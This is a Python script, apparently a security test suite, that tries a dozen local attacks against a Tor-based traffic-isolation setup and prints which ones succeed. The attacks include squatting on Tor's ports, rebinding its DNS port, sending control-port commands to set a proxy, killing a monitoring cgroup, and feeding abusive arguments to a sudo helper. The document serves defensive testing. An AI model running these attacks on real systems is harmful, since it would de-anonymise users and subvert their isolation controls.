"""Attacks of a hostile program without root's rights, inside the host. The program runs as the attacking identity.

    attacks.py HELPER NAME...      prints the names of the attacks that succeed, one per line; HELPER is the helper that sudo runs
"""

import hashlib
import os
import socket
import subprocess
import sys
import time

TOR_PORTS = {9050, 9051}
DNS_PORT = 293
GROUP = "/sys/fs/cgroup/desktop"  # every user may kill the processes in it
OWN_TOR = "/opt/own/tor"
MEDIUM = "/opt/medium"
HASH = "16:0123456789ABCDEF60CA93B6650FDA506D171E63461568B343DE96B286"  # as in case.py, which this program cannot import
PROXY = ["--strict", "0", "--lan", "0"]


def listening(uid):
    """The ports that programs of that account listen at."""
    with open("/proc/net/tcp", encoding="ascii") as table:
        lines = [line.split() for line in table][1:]
    return {int(line[1].split(":")[1], 16) for line in lines if line[3] == "0A" and int(line[7]) == uid}


def tors_uid():
    with open("/etc/passwd", encoding="utf-8") as accounts:
        return next(int(line.split(":")[2]) for line in accounts if line.startswith("_veldmark:"))


def tunnel():
    """Connects through a bridge program's port to a server of its own."""
    for port in listening(tors_uid()) - TOR_PORTS:
        with socket.socket() as probe:
            probe.settimeout(1)
            try:
                probe.connect(("127.0.0.1", port))
                probe.sendall(b"\x05\x01\x02")
                if probe.recv(2):
                    return True
            except OSError:
                pass
    return False


def beside_tor():
    """Binds a second socket to Tor's DNS port, to receive other programs' lookups."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as beside:
        for option in socket.SO_REUSEADDR, socket.SO_REUSEPORT:
            beside.setsockopt(socket.SOL_SOCKET, option, 1)
        try:
            beside.bind(("127.0.0.1", DNS_PORT))
            return True
        except OSError:
            return False


def place():
    """Listens at Tor's ports while Tor is away. The attack succeeds when its own connection is answered."""
    for family, address, port in (
        (socket.AF_INET, "127.0.0.1", 9050),
        (socket.AF_INET, "127.0.0.1", 9051),
        (socket.AF_INET6, "::1", 9050),
    ):
        with socket.create_server((address, port), family=family), socket.socket(family) as caller:
            caller.settimeout(0.5)
            if caller.connect_ex((address, port)) == 0:
                return True
    return False


def configuration():
    """Has Tor use a proxy of its own, with the control password."""
    try:
        with socket.create_connection(("127.0.0.1", 9051), 2) as control:
            control.sendall(b'AUTHENTICATE "the word"\r\nSETCONF HTTPSProxy=192.0.2.8:8\r\nQUIT\r\n')
            return control.makefile().read().startswith("250 OK\n250 OK\n")
    except OSError:
        return False


def is_watched():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as words:
                if words.read().endswith(b"/watcher.sh\0"):
                    return True
        except OSError:
            pass
    return False


def kill():
    """Kills everything in the control group that the session was started in."""
    with open(f"{GROUP}/cgroup.kill", "w", encoding="ascii") as group:
        group.write("1")
    deadline = time.monotonic() + 0.5
    while is_watched() and time.monotonic() < deadline:
        time.sleep(0.02)
    return not is_watched()


def by_rule(*words):
    return (
        subprocess.run(["sudo", "-n", sys.argv[1], *words], capture_output=True, stdin=subprocess.DEVNULL, check=False).returncode
        == 0
    )


def connect(*more, tor="/usr/bin/tor"):
    return by_rule("connect", "--tor", tor, "--hash", HASH, *more)


def approve():
    with open(OWN_TOR, "rb") as program:
        return by_rule("approve", "--program", OWN_TOR, "--as", "tor", "--sha256", hashlib.sha256(program.read()).hexdigest())


# name: (function, row of the table)
ATTACKS = {
    "tunnel": (tunnel, "a bridge program's port as a tunnel"),
    "beside": (beside_tor, "a second socket at Tor's port for lookups"),
    "place": (place, "listening in Tor's place while it is away"),
    "configuration": (configuration, "with the control password, a proxy for Tor"),
    "kill": (kill, "an end of the control group that it was begun in"),
    "proxy": (lambda: connect(*PROXY), "by the rule: proxy mode"),
    "lan": (lambda: connect("--strict", "1", "--lan", "1"), "by the rule: the local network"),
    "interpreter": (
        lambda: connect(*PROXY, "--bridge", "obfs4 192.0.2.1:443 cert=a iat-mode=0", "--pt-lyrebird", "/opt/interpreter/program"),
        "by the rule: an interpreter as a bridge program",
    ),
    "program": (lambda: connect(*PROXY, tor=OWN_TOR), "by the rule: a Tor of one's own"),
    "medium": (lambda: connect(*PROXY, tor=f"{MEDIUM}/tor"), "by the rule: a Tor of root's on a medium"),
    "approval": (lambda: approve(), "by the rule: an approval of it"),
    "launch": (
        lambda: by_rule("launch", "--uid", str(os.getuid()), "--app", "/bin/true"),
        "by the rule: an application without Tor",
    ),
}

if __name__ == "__main__":
    for name in sys.argv[2:]:
        if ATTACKS[name][0]():
            print(name, flush=True)
